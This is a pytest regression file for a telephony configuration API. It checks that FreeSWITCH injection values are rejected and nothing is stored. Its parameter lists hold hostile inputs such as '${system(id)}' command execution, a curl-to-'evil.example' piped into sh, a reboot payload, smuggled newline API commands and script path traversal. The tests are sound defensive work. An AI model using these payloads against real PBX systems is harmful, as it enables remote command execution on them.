"""Issue 10, findings 3, 6 and 7 replayed over HTTP: config-api refuses a
value that would reach FreeSWITCH unsafe with a 400 naming the field as the
client sent it, and stores nothing (docs/security.md, "Values that reach
FreeSWITCH")."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import pytest
import pytest_asyncio
from litestar.testing import AsyncTestClient

from switchyard.config_api.service import service as config_api
from switchyard.shared.runner import create_app
from switchyard.shared.settings import Settings


class Api:
    def __init__(self, client: AsyncTestClient, token: str) -> None:  # type: ignore[type-arg]
        self.client = client
        self.headers = {"X-XTRA-AUTH-ID": token}

    async def send(self, method: str, path: str, body: Any) -> Any:
        return await self.client.request(method, path, json=body, headers=self.headers)

    async def refused(self, method: str, path: str, body: Any, field: str) -> None:
        r = await self.send(method, path, body)
        assert r.status_code == 400, (path, body, r.status_code, r.text)
        data = r.json()["data"]
        assert data["field"] == field, (path, body, data)
        assert data["reason"]

    async def create(self, path: str, body: Any) -> Any:
        r = await self.send("POST", path, body)
        assert r.status_code == 200, (path, r.text)
        return r.json()["data"]


@pytest_asyncio.fixture
async def api(settings: Settings, api_token: str) -> AsyncIterator[Api]:
    app = create_app(settings, [config_api])
    async with AsyncTestClient(app, base_url="http://testserver.local", timeout=10) as client:
        yield Api(client, api_token)


async def count(db: asyncpg.Pool, table: str) -> int:
    return int(await db.fetchval(f"SELECT count(*) FROM {table}"))  # noqa: S608 - fixed names


ROUTE = {"name": "r", "prefix": "9", "max_length": 12, "context": "context-1"}


# Finding 3: extn `${system(id)}` and friends.
@pytest.mark.parametrize(
    "extn", ["${system(id)}", "1000\n", "1 0", "}", "<x>", "1,2", "1|2", "1000@evil"]
)
async def test_extension_numbers_are_refused(api: Api, db: asyncpg.Pool, extn: str) -> None:
    await api.refused("POST", "/api/extensions", {"extn": extn}, "extn")
    assert await count(db, "extensions") == 0


async def test_extension_fields_and_updates(api: Api, db: asyncpg.Pool) -> None:
    for field, value in [
        ("cid_name", "x}"),
        ("cid_number", "1${x}"),
        ("password", "a${system(id)}"),
        ("domain", "a b"),
        ("context", "ctx\n"),
    ]:
        await api.refused("POST", "/api/extensions", {"extn": "1000", field: value}, field)
    assert await count(db, "extensions") == 0
    eid = await api.create("/api/extensions", {"extn": "1000", "password": "$ecret pass"})
    await api.refused("PUT", f"/api/extensions/{eid}", {"extn": "${system(id)}"}, "extn")
    assert await db.fetchval("SELECT extn FROM extensions WHERE id = $1", eid) == "1000"


async def test_ring_group_members_are_refused(api: Api, db: asyncpg.Pool) -> None:
    for dest_type in ("FS_DEST_RING_EXTNS", "FS_DEST_SEQ_EXTNS"):
        members = json.dumps([{"extn": "1001|pbx.example.com"}, {"extn": "${system(id)}|d"}])
        body = {**ROUTE, "dest_type": dest_type, "dest_uuid": members}
        await api.refused("POST", "/api/routes", body, "dest_uuid[1].extn")
    assert await count(db, "routes") == 0


async def test_ivr_extension_members_are_refused(api: Api, db: asyncpg.Pool) -> None:
    ivr = await api.create("/api/ivrs", {"name": "menu"})
    args = json.dumps([{"extn": "1001}"}])
    body = {"digits": "1", "action": "IVR_EXTENSION", "args": args}
    await api.refused("POST", f"/api/ivrs/{ivr}/actions", body, "args[0].extn")
    assert await count(db, "ivr_actions") == 0


# Finding 6: gateway names that break the sync's API commands.
@pytest.mark.parametrize("name", ["badnl\n\napi status", "gw x", "gwsec\n", "gw}"])
async def test_gateway_names_are_refused(api: Api, db: asyncpg.Pool, name: str) -> None:
    await api.refused("POST", "/api/gateways", {"name": name, "realm": "example.com"}, "name")
    assert await count(db, "gateways") == 0


async def test_gateway_children(api: Api, db: asyncpg.Pool) -> None:
    gw = await api.create("/api/gateways", {"name": "gw1", "realm": "example.com"})
    await api.refused("PUT", f"/api/gateways/{gw}", {"name": "gw 1"}, "name")
    await api.refused("POST", f"/api/gateways/{gw}/params", {"k": "proxy", "v": "x}"}, "v")
    await api.refused("POST", f"/api/gateways/{gw}/params", {"k": "a b", "v": "x"}, "k")
    body = {"k": "execute_on_answer", "v": "system id"}
    await api.refused("POST", f"/api/gateways/{gw}/variables", body, "k")
    assert await count(db, "gateway_params") == 0
    assert await count(db, "gateway_variables") == 0
    assert await db.fetchval("SELECT name FROM gateways") == "gw1"


async def test_system_destinations_are_refused(api: Api, db: asyncpg.Pool) -> None:
    for body in ("system id", "answer\nsystem id", "set api_hangup_hook=system id", "lua x.lua"):
        route = {**ROUTE, "dest_type": "FS_DEST_SYSTEM", "body": body}
        await api.refused("POST", "/api/routes", route, "body")
    assert await count(db, "routes") == 0
    ok = await api.create(
        "/api/routes", {**ROUTE, "dest_type": "FS_DEST_SYSTEM", "body": "answer\nhangup"}
    )
    rid = ok["id"]
    await api.refused("PUT", f"/api/routes/{rid}", {"body": "bgsystem id"}, "body")
    # a time rule replaces the destination: the same rules
    rule = {"route_id": rid, "time_recurrence": "20220502T000000|PT1H|daily", "body": "system id"}
    await api.refused("POST", "/api/time_recurrence", {**rule, "dest_type": "FS_DEST_SYSTEM"},
                      "body[0].body")  # fmt: skip
    assert await count(db, "route_time_recurrences") == 0


async def test_route_params_are_refused(api: Api, db: asyncpg.Pool) -> None:
    rid = (await api.create("/api/routes", {**ROUTE, "dest_type": "FS_DEST_USER"}))["id"]
    params = f"/api/routes/{rid}/params"
    await api.refused("POST", params, {"k": "system", "v": "id"}, "k")
    await api.refused("POST", params, {"k": "set", "v": "api_hangup_hook=system id"}, "v")
    await api.refused("POST", params, {"k": "set", "v": "x=${system(id)}"}, "v")
    assert await count(db, "route_params") == 0
    pid = await api.create(params, {"k": "set", "v": "a=2222"})
    await api.refused("PUT", f"{params}/{pid}", {"k": "lua", "v": "x.lua"}, "k")
    assert await db.fetchval("SELECT k FROM route_params WHERE id = $1", pid) == "set"


async def test_ivr_system_is_refused(api: Api, db: asyncpg.Pool) -> None:
    await api.refused("POST", "/api/ivrs", {"name": "m", "exec_on_max_failures": "system id"},
                      "exec_on_max_failures")  # fmt: skip
    assert await count(db, "ivrs") == 0
    ivr = await api.create("/api/ivrs", {"name": "menu"})
    body = {"digits": "1", "action": "IVR_SYSTEM", "body": "system id"}
    await api.refused("POST", f"/api/ivrs/{ivr}/actions", body, "body")
    await api.refused("POST", f"/api/ivrs/{ivr}/actions", {**body, "digits": "1\n"}, "digits")
    assert await count(db, "ivr_actions") == 0


async def test_bulk_and_upload_name_the_row(api: Api, db: asyncpg.Pool) -> None:
    good = {**ROUTE, "dest_type": "FS_DEST_USER"}
    bad = {**ROUTE, "name": "r2", "prefix": "8", "dest_type": "FS_DEST_SYSTEM", "body": "system id"}
    await api.refused("POST", "/api/routes", [good, bad], "routes[1].body")
    await api.refused("POST", "/api/routes/upload", {"routes": [bad]}, "routes[0].body")
    assert await count(db, "routes") == 0
    rid = (await api.create("/api/routes", good))["id"]
    batch = {"route": [rid], "media_codec": "PCMU}"}
    await api.refused("PUT", "/api/routes", batch, "media_codec")
    assert await db.fetchval("SELECT media_codec FROM routes") == ""


async def test_imports_name_the_row(api: Api, db: asyncpg.Pool) -> None:
    await api.create("/api/extensions", {"extn": "1000"})
    await api.create("/api/gateways", {"name": "gw1"})
    dods = {"dods": [{"extn": "1000", "line_number": "1${x}", "type": "GATEWAY", "name": "gw1"}]}
    await api.refused("POST", "/api/dods/import", dods, "dods[0].line_number")
    assert await count(db, "dods") == 0
    trunks = {"trunks": [{"中继名称": "t", "远端地址": "1.2.3.4;x=${y}"}]}
    await api.refused("POST", "/api/trunks/import", trunks, "trunks[0].remote_addr")
    assert await count(db, "trunks") == 0


# Finding 7: full matches, a trailing newline is not a match.
async def test_trailing_newline_is_refused(api: Api, db: asyncpg.Pool) -> None:
    await api.refused("POST", "/api/extensions", {"extn": "1000\n"}, "extn")
    await api.refused("POST", "/api/gateways", {"name": "gwsec\n"}, "name")
    await api.refused("POST", "/api/hotlines", {"line_number": "1\n", "numbers": "1000"},
                      "line_number")  # fmt: skip
    route = {**ROUTE, "prefix": "9\n", "dest_type": "FS_DEST_USER"}
    await api.refused("POST", "/api/routes", route, "prefix")
    assert await count(db, "extensions") + await count(db, "gateways") == 0


# The attack review after issue 10: allowed applications whose data runs
# other applications or API commands.
SMUGGLED = [
    "bind_digit_action r,1,api:system,touch /tmp/pwned1",
    "transfer system:curl$IFS$9evil.example/x|sh inline",
    "transfer 1000 enum",
    "sched_transfer +1 system:id inline",
    "bridge loopback/system:reboot/default/inline",
    "att_xfer loopback/1000/default/inline",
    "conference bridge:room:user/1000",
    "set transfer_after_bridge=system:id:inline",
    "export execute_on_answer=system id",
]


@pytest.mark.parametrize("line", SMUGGLED)
async def test_allowed_applications_cannot_smuggle_others(
    api: Api, db: asyncpg.Pool, line: str
) -> None:
    route = {**ROUTE, "dest_type": "FS_DEST_SYSTEM", "body": f"answer\n{line}"}
    await api.refused("POST", "/api/routes", route, "body")
    rid = (await api.create("/api/routes", {**ROUTE, "dest_type": "FS_DEST_USER"}))["id"]
    app, _, data = line.partition(" ")
    await api.refused("POST", f"/api/routes/{rid}/params", {"k": app, "v": data},
                      "k" if app == "bind_digit_action" else "v")  # fmt: skip
    await api.refused("POST", "/api/ivrs", {"name": "m", "exec_on_max_failures": line},
                      "exec_on_max_failures")  # fmt: skip
    assert await count(db, "route_params") == 0 and await count(db, "ivrs") == 0


async def test_scripts_run_only_from_script_dir(api: Api, db: asyncpg.Pool) -> None:
    rid = (await api.create("/api/routes", {**ROUTE, "dest_type": "FS_DEST_USER"}))["id"]
    params = f"/api/routes/{rid}/params"
    for path in ("/var/lib/switchyard/media/upload-1-a.lua", "../../tmp/x.lua", "~os.exit()"):
        await api.refused("POST", params, {"k": "uploaded_scripts", "v": path}, "v")
        route = {**ROUTE, "name": "s", "dest_type": "FS_DEST_SCRIPT", "body": path}
        await api.refused("POST", "/api/routes", route, "body")
    assert await api.create(params, {"k": "uploaded_scripts", "v": "blocks/welcome.lua"})
